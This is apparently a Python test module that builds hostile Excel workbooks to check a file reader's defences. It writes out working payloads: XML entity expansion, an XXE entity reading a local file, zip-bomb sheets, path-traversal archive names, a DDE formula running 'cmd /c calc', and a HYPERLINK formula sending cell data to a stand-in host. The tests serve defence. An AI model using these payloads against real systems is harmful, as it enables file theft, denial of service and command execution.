"""Files that break careless readers: each is named by a sentence, with what must come of it.

The threats are those of reference/reliability.md section 4; every file is built here.
"""

import random
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from app.domain.errors import (
    AppError,
    FileEmpty,
    NotAWorkbook,
    WorkbookDamaged,
    WorkbookHostile,
    WorkbookTooLarge,
)
from tests.data.raw_book import MAIN, RawBook, text_cell

CANARY = "CANARY-MUST-NOT-BE-READ"

Rows = list[list[object]]
Build = Callable[[Path, Path], object]
"""Writes the file at the first path; the second is a secret file that must never be read."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A way to build a file, and the rows or the kinds of refusal that may come of it."""

    build: Build
    rows: Rows | None = None
    refusals: tuple[type[AppError], ...] = ()
    ending: str = "xlsx"


def _cells(*texts: str) -> str:
    row = "".join(text_cell(f"{chr(65 + at)}1", text) for at, text in enumerate(texts))
    return f'<row r="1">{row}</row>'


def _row(cells: str) -> str:
    return f'<row r="1">{cells}</row>'


def _raw(**facts: object) -> Build:
    def build(path: Path, canary: Path) -> None:
        del canary
        RawBook(**facts).write(path)  # type: ignore[arg-type]

    return build


def _entities(declared: str, used: str) -> Build:
    return _raw(doctype=f"<!DOCTYPE z [{declared}]>", rows=_cells(used))


def _bytes(content: bytes) -> Build:
    def build(path: Path, canary: Path) -> None:
        del canary
        path.write_bytes(content)

    return build


def _changed(change: Callable[[bytes], bytes]) -> Build:
    """An ordinary workbook after an accident."""

    def build(path: Path, canary: Path) -> None:
        del canary
        path.write_bytes(change(RawBook().write(path).read_bytes()))

    return build


_LAUGHS = '<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10)
)


def _secret_entity(path: Path, canary: Path) -> None:
    _entities(f'<!ENTITY x SYSTEM "{canary.as_uri()}">', "&x;")(path, canary)


def _secret_target(path: Path, canary: Path) -> None:
    RawBook(target="../" * 12 + str(canary).lstrip("/")).write(path)


def _foreign_paths(path: Path, canary: Path) -> None:
    del canary
    names = ("../../../../evil.txt", "/evil.txt", "xl\\..\\evil", "C:\\evil.txt")
    RawBook(more=[(name, "x") for name in names]).write(path)


def _sheet_of_air(path: Path, canary: Path) -> None:
    """A gigabyte of sheet in a few megabytes of file."""
    del canary
    piece = b"<row><c><v>" + b"1" * (1 << 20) + b"</v></c></row>"
    parts = dict(RawBook().parts())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, content in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                book.writestr(name, content)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(1024):
                sheet.write(piece)


def _shared_strings_of_air(path: Path, canary: Path) -> None:
    del canary
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in RawBook().parts():
            book.writestr(name, content)
        with book.open("xl/sharedStrings.xml", "w") as strings:
            strings.write(f'<sst xmlns="{MAIN}">'.encode())
            for _ in range(80):
                strings.write(b"<si><t>x</t></si>" * 100_000)
            strings.write(b"</sst>")


def _twice_the_same_part(path: Path, canary: Path) -> None:
    del canary
    RawBook(more=[("xl/worksheets/Sheet1.xml", "<worksheet/>")]).write(path)


def _no_workbook_inside(path: Path, canary: Path) -> None:
    del canary
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("catatan.txt", "bukan buku kerja")


def _flipped(content: bytes) -> bytes:
    changed = bytearray(content)
    changed[len(changed) // 3] ^= 0xFF
    return bytes(changed)


_FAR = f'{_cells("NIP")}<row r="1048576">{text_cell("XFD1048576", "x")}</row>'
_BEYOND = f'<row r="9999999">{text_cell("ZZZZ9999999", "x")}</row>'
_DDE = (
    '<c r="A1" t="str"><f>cmd|\'/c calc\'!A1</f><v>aman</v></c><c r="B1" t="str">'
    '<f>HYPERLINK("http://x.invalid/?"&amp;A1,"klik")</f><v>klik</v></c>'
)
_NUMBERS = '<c r="A1"><v>198501012010011901</v></c><c r="B1"><v>1.98501012010012E+17</v></c>'
_NO_NUMBERS = '<c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c>'
_ERRORS = '<c r="A1" t="e"><v>#REF!</v></c><c r="B1" t="e"><v>#N/A</v></c>'
_LINK = (
    '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
)
_LINK_PARTS = [
    ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
    (
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="x" Target="file://10.0.0.1/share/x.xlsx" '
        'TargetMode="External"/></Relationships>',
    ),
]
_NIP: Rows = [["NIP"]]
_DAMAGED = (WorkbookDamaged,)
_HOSTILE = (WorkbookHostile,)
_LARGE = (WorkbookTooLarge,)
_OTHER = (NotAWorkbook,)
_MANY = "".join(
    f'<sheet name="L{number}" sheetId="{number}" r:id="rId1"/>' for number in range(2, 252)
)

HOSTILE: Mapping[str, Hostile] = {
    "an ordinary workbook": Hostile(_raw(), _NIP),
    "entities that multiply tenfold nine times": Hostile(
        _entities(_LAUGHS, "&l9;"), refusals=_DAMAGED
    ),
    "one long entity used twenty thousand times": Hostile(
        _entities(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 20_000), refusals=_DAMAGED
    ),
    "an entity that points at a file of the computer": Hostile(_secret_entity, refusals=_DAMAGED),
    "a grammar that lies on another computer": Hostile(
        _raw(doctype='<!DOCTYPE z SYSTEM "http://127.0.0.1:9/evil.dtd">'), _NIP
    ),
    "a gigabyte of sheet in a few megabytes": Hostile(_sheet_of_air, refusals=_HOSTILE),
    "eight million shared strings in a few kilobytes": Hostile(
        _shared_strings_of_air, refusals=_HOSTILE
    ),
    "a sheet that claims all cells there can be": Hostile(
        _raw(before='<dimension ref="A1:XFD1048576"/>'), _NIP
    ),
    "a cell in the last corner of the sheet": Hostile(_raw(rows=_FAR), refusals=_LARGE),
    "a cell beyond the last corner": Hostile(_raw(rows=_BEYOND), refusals=_LARGE),
    "a sheet that only a macro could show": Hostile(_raw(attributes=' state="veryHidden"'), _NIP),
    "a sheet with a name that Excel forbids": Hostile(_raw(name="a/b\\c:*?[]x" * 5), _NIP),
    "parts whose names lead out of the archive": Hostile(_foreign_paths, _NIP),
    "a sheet that stands in a file of the computer": Hostile(_secret_target, refusals=_DAMAGED),
    "a sheet that is not there": Hostile(_raw(target="worksheets/none.xml"), refusals=_DAMAGED),
    "formulas that would start programs": Hostile(_raw(rows=_row(_DDE)), [["aman", "klik"]]),
    "a formula that was never calculated": Hostile(_raw(rows=_row('<c r="A1"><f>1+1</f></c>')), []),
    "cells that hold an error": Hostile(_raw(rows=_row(_ERRORS)), []),
    "letters written as their numbers": Hostile(
        _raw(rows=_cells("a_x0000_b_x000D_c_x005F_x0041_")), [["ab\nc_x0041_"]]
    ),
    "a control character in the middle": Hostile(_raw(rows=_cells("a\x01b")), [["ab"]]),
    "letters that turn, hide and look like others": Hostile(
        _raw(rows=_cells("Budi\u202exslx.exe", "\u0410gus", "a\u200bb", "e\u0301")),
        [["Budi\u202exslx.exe", "\u0410gus", "a\u200bb", "e\u0301"]],
    ),
    "numbers of people stored as numbers": Hostile(
        _raw(rows=_row(_NUMBERS)), [[198501012010011901.0, 1.98501012010012e17]]
    ),
    "the day that never was": Hostile(_raw(rows=_row('<c r="A1"><v>60</v></c>')), [[60.0]]),
    "a date that cannot be": Hostile(
        _raw(rows=_row('<c r="A1" t="d"><v>99999-99-99</v></c>')), [["99999-99-99"]]
    ),
    "numbers that are none": Hostile(_raw(rows=_row(_NO_NUMBERS)), [["nan", "inf"]]),
    "a text that the list of texts does not have": Hostile(
        _raw(rows=_row('<c r="A1" t="s"><v>99</v></c>')), refusals=_DAMAGED
    ),
    "markup two hundred thousand levels deep": Hostile(
        _raw(after="<a>" * 200_000 + "</a>" * 200_000), refusals=_HOSTILE
    ),
    "two hundred and fifty sheets": Hostile(_raw(sheets=_MANY), _NIP * 251),
    "a cell of a hundred thousand letters": Hostile(
        _raw(rows=_cells("x" * 100_000)), [["x" * 32_767]]
    ),
    "one block of joined cells over the whole sheet": Hostile(
        _raw(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), _NIP
    ),
    "a link to a workbook on another computer": Hostile(
        _raw(relations=_LINK, more=_LINK_PARTS), _NIP
    ),
    "the same part twice": Hostile(_twice_the_same_part, refusals=_HOSTILE),
    "no bytes at all": Hostile(_bytes(b""), refusals=(FileEmpty,)),
    "half a workbook": Hostile(
        _changed(lambda content: content[: len(content) // 2]), refusals=_DAMAGED
    ),
    "five thousand bytes of noise": Hostile(
        _bytes(b"\xfe\xff\x00" + random.Random(5).randbytes(5_000)), refusals=_OTHER
    ),
    "an archive without a workbook": Hostile(_no_workbook_inside, refusals=_OTHER),
    "a web page with the name of a workbook": Hostile(
        _bytes(b"<html><table><tr><td>NIP</td></tr></table></html>"), _NIP, ending="xls"
    ),
    "text with the name of a workbook": Hostile(
        _bytes(b"NIP;Nama\r\n1985;Budi\r\n"), [["NIP", "Nama"], ["1985", "Budi"]]
    ),
    "the shell of an old file with nothing inside": Hostile(
        _bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600), refusals=_DAMAGED
    ),
    "wide letters with the name of a workbook": Hostile(
        _bytes("NIP\tNama".encode("utf-16")), [["NIP", "Nama"]]
    ),
    "one byte that was turned over": Hostile(_changed(_flipped), _NIP, _DAMAGED),
}
